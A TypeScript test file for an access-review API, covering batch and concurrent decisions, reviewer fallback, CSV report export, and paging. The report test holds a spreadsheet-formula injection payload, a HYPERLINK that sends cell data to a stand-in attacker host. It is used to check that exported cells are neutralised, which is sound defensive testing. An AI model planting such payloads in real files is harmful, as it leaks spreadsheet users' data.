import type { EventPage } from '@keyhook/contract/api/event.ts'
import { parse } from 'csv-parse/sync'
import { describe, expect, test, vi } from 'vitest'
import { reassignGone } from '../../src/reviews/review-reassign.ts'
import { serviceWithReceiver } from '../support/service-with-receiver.ts'
import { addApp, addGrant, addGroup, addPerson, addWebhook, day, sessionOf, setStatus } from './company.ts'
import { reviewsOf } from './reviews-api.ts'

const { service, receiver } = serviceWithReceiver()
const { review, itemsOf, decide, read, close } = reviewsOf(service)
const soon = { timeout: 15_000, interval: 100 }

async function reviewOf(count: number, more: Record<string, unknown> = {}) {
  const provisioning = await addWebhook(service, 'provisioning', receiver.url)
  const deprovisioning = await addWebhook(service, 'deprovisioning', receiver.url)
  const admin = await addPerson(service, 'Admin')
  const app = await addApp(service, 'Ledger', { admins: [admin], provisioning, deprovisioning })
  const boss = await addPerson(service, 'Boss')
  const grants = []
  for (let index = 0; index < count; index++)
    grants.push(await addGrant(service, await addPerson(service, `P${index}`, { manager_id: boss.id }), app))
  const made = (await review({ scope: { app_ids: [app.id] }, ...more })).body
  return { app, admin, boss, grants, made, items: await itemsOf(made.id) }
}

const decideMany = (id: string, decisions: unknown[], options = {}) =>
  service.api<{ data: { status: string }[]; errors: unknown[]; code: string }>(
    'POST',
    `/access-reviews/${id}/items/decide`,
    { decisions },
    options,
  )

describe('several decisions in one call', () => {
  test('are all stored, answered in their order', async () => {
    const { made, items } = await reviewOf(3)
    const decisions = items.map(({ id }, index) =>
      index === 1 ? { item_id: id, decision: 'remove', reason: 'No' } : { item_id: id, decision: 'keep' },
    )
    const answer = await decideMany(made.id, decisions)
    expect(answer.body.data.map(({ status }) => status)).toEqual(['keep', 'remove', 'keep'])
    expect((await read(made.id)).progress).toEqual({ total: 3, decided: 3, keep: 2, remove: 1 })
  })

  test('are none stored when one of them cannot be', async () => {
    const { made, items, grants } = await reviewOf(3)
    await service.api('POST', `/grants/${grants[0]?.id}/revoke`, { reason: 'Gone' })
    const order = items.map(({ grant }) => grant.id)
    const answer = await decideMany(
      made.id,
      items.map(({ id }) => ({ item_id: id, decision: 'keep' })),
    )
    expect(answer.status).toBe(422)
    expect(answer.body.errors).toEqual([
      {
        pointer: `/decisions/${order.indexOf(grants[0]?.id ?? '')}`,
        detail: 'This access has ended in the meantime.',
      },
    ])
    expect((await read(made.id)).progress.decided).toBe(0)
  })

  test('must be of items of this review, each once', async () => {
    const { made, items } = await reviewOf(1)
    const [item] = (await reviewOf(1)).items
    const foreign = await decideMany(made.id, [{ item_id: item?.id, decision: 'keep' }])
    expect(foreign.body.errors).toEqual([
      { pointer: '/decisions/0', detail: 'There is no such item of this review.' },
    ])
    const own = { item_id: items[0]?.id, decision: 'keep' }
    expect((await decideMany(made.id, [own, own])).status).toBe(422)
    expect((await decideMany(made.id, [])).status).toBe(422)
    const unexplained = await decideMany(made.id, [{ item_id: items[0]?.id, decision: 'remove' }])
    expect(unexplained.body.errors).toMatchObject([{ pointer: '/decisions/0/reason' }])
  })
})

describe('decisions at the same time', () => {
  test('count once each, whoever was last', async () => {
    const { boss, made, items } = await reviewOf(4)
    const asBoss = await sessionOf(service, boss)
    const all = items.flatMap((item) => [
      decide(item, { decision: 'keep' }, asBoss),
      decide(item, { decision: 'remove', reason: 'No' }),
      decide(item, { decision: 'keep' }, asBoss),
    ])
    expect((await Promise.all(all)).map(({ status }) => status)).toEqual(all.map(() => 200))
    const now = await itemsOf(made.id)
    const { progress } = await read(made.id)
    expect(progress).toEqual({
      total: 4,
      decided: 4,
      keep: now.filter(({ decision }) => decision === 'keep').length,
      remove: now.filter(({ decision }) => decision === 'remove').length,
    })
  })

  test('the same decision again is no new one in the log', async () => {
    const { made, items } = await reviewOf(1)
    for (let again = 0; again < 3; again++) await decide(items[0], { decision: 'keep' })
    const events = await service.api<EventPage>(
      'GET',
      `/events?type=ACCESS_REVIEW_DECIDED&target_id=${made.id}`,
    )
    expect(events.body.data.map(({ event }) => event.event_metadata)).toMatchObject([
      { decision: 'keep', decision_before: null },
    ])
  })

  test('sign-off and decisions: either before or after, never in between', async () => {
    const { made, items } = await reviewOf(3, { default_decision: 'keep' })
    const answers = await Promise.all([
      ...items.map((item) => decide(item, { decision: 'remove', reason: 'No' })),
      close(made.id, { apply_default: true }),
    ])
    expect(answers.at(-1)?.status).toBe(200)
    const stored = answers.slice(0, -1).filter(({ status }) => status === 200).length
    expect((await read(made.id)).progress).toEqual({
      total: 3,
      decided: 3,
      keep: 3 - stored,
      remove: stored,
    })
  })
})

describe('reviewers who are gone', () => {
  test('give way to the app admins, then to the administrators, and the item says so', async () => {
    const { app, admin, boss, made, items } = await reviewOf(2)
    await decide(items[0], { decision: 'keep' }, await sessionOf(service, boss))
    await setStatus(service, boss, 'inactive')
    const open = async () => (await itemsOf(made.id)).find(({ id }) => id === items[1]?.id)
    await vi.waitFor(
      async () => expect((await open())?.reviewers.map(({ id }) => id)).toEqual([app.id]),
      soon,
    )
    expect((await open())?.fallback).toBe(
      'The manager cannot review it: nobody of them is active, or it is their own access. ' +
        'The app admins are asked instead.',
    )
    await setStatus(service, admin, 'inactive')
    // As another process would: the server itself, which looks every five seconds, was waited for above.
    await reassignGone(service.ctx)
    await vi.waitFor(
      async () => expect((await open())?.reviewers.map(({ id }) => id)).toEqual(['administrators']),
      soon,
    )
    // What was decided stays with who decided it.
    const decided = (await itemsOf(made.id)).find(({ id }) => id === items[0]?.id)
    expect(decided).toMatchObject({ decided_by: boss.name, reviewers: [{ id: boss.id, active: false }] })
  })

  test('a group that is named gives way once nobody of it is active', async () => {
    const [one, two] = [await addPerson(service, 'One'), await addPerson(service, 'Two')]
    const group = await addGroup(service, 'Auditors', [one, two])
    const { made } = await reviewOf(1, { reviewers: { type: 'named', principal_ids: [group.id] } })
    await setStatus(service, one, 'inactive')
    const asTwo = await sessionOf(service, two)
    expect((await itemsOf(made.id, 'assigned=me', asTwo)).length).toBe(1)
    await setStatus(service, two, 'inactive')
    await reassignGone(service.ctx)
    await vi.waitFor(
      async () => expect((await read(made.id)).by_reviewer[0]?.reviewer.id).toMatch(/^app_/),
      soon,
    )
  })
})

describe('the report', () => {
  test('has a row for each item, says who decided what when and why, and holds no formula', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")\nsecond, line'
    const { made, items, grants } = await reviewOf(3, { name: '@SUM(A1:A9)', default_decision: 'remove' })
    await decide(items[0], { decision: 'remove', reason: hostile })
    await decide(items[1], { decision: 'keep', reason: '+41 "quoted"' })
    await close(made.id, { apply_default: true, comment: null })
    await vi.waitFor(async () => expect((await read(made.id)).outcome.removed).toBe(2), soon)
    const answer = await service.api<string>('GET', `/access-reviews/${made.id}/report.csv`)
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="access-review-[\d-]+\.csv"$/,
    )
    const rows: Record<string, string>[] = parse(answer.text, { columns: true, bom: true })
    expect(rows.map(({ grant_id }) => grant_id)).toEqual(items.map(({ grant }) => grant.id))
    for (const row of rows) {
      expect(row).toMatchObject({ review: "'@SUM(A1:A9)", review_status: 'Signed off', app: 'Ledger' })
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }
    expect(rows[0]).toMatchObject({
      decision: 'remove',
      status: 'Removed',
      reason: `'${hostile}`,
      by_default: 'false',
    })
    expect(rows[1]).toMatchObject({ decision: 'keep', status: 'Keep', reason: `'+41 "quoted"` })
    expect(rows[2]).toMatchObject({
      decision: 'remove',
      by_default: 'true',
      decided_by: '',
      reason: 'Nobody decided before the review was signed off.',
    })
    expect(rows[2]?.ended_at).not.toBe('')
    expect(grants.length).toBe(3)
  })
})

describe('a change', () => {
  test('moves the deadline of an open review; against another version it is refused', async () => {
    const { made } = await reviewOf(1)
    const deadline = new Date(service.ctx.clock() + 30 * day).toISOString()
    const patch = (body: unknown, headers = {}) =>
      service.api('PATCH', `/access-reviews/${made.id}`, body, { headers })
    const changed = await patch({ deadline, description: 'More time' }, { 'if-match': '"1"' })
    expect([changed.status, changed.headers.get('etag')]).toEqual([200, '"2"'])
    expect(changed.body).toMatchObject({ deadline, description: 'More time', name: made.name })
    expect((await patch({ name: 'Late' }, { 'if-match': '"1"' })).status).toBe(412)
    expect((await patch({ deadline: '2020-01-01T00:00:00.000Z' })).status).toBe(422)
    expect((await patch({ scope: {} })).status).toBe(422)
    await close(made.id, { apply_default: true })
    expect((await patch({ name: 'Late' })).body).toMatchObject({ code: 'review_state_conflict' })
  })
})

describe('the list of items', () => {
  test('is paged without losing or repeating any', async () => {
    const { made, items } = await reviewOf(5)
    const seen: string[] = []
    let cursor: string | null = ''
    while (cursor !== null) {
      const page: { body: { data: { id: string }[]; next_cursor: string | null } } = await service.api(
        'GET',
        `/access-reviews/${made.id}/items?limit=2${cursor && `&cursor=${cursor}`}`,
      )
      seen.push(...page.body.data.map(({ id }) => id))
      cursor = page.body.next_cursor
    }
    expect(seen).toEqual(items.map(({ id }) => id))
  })
})
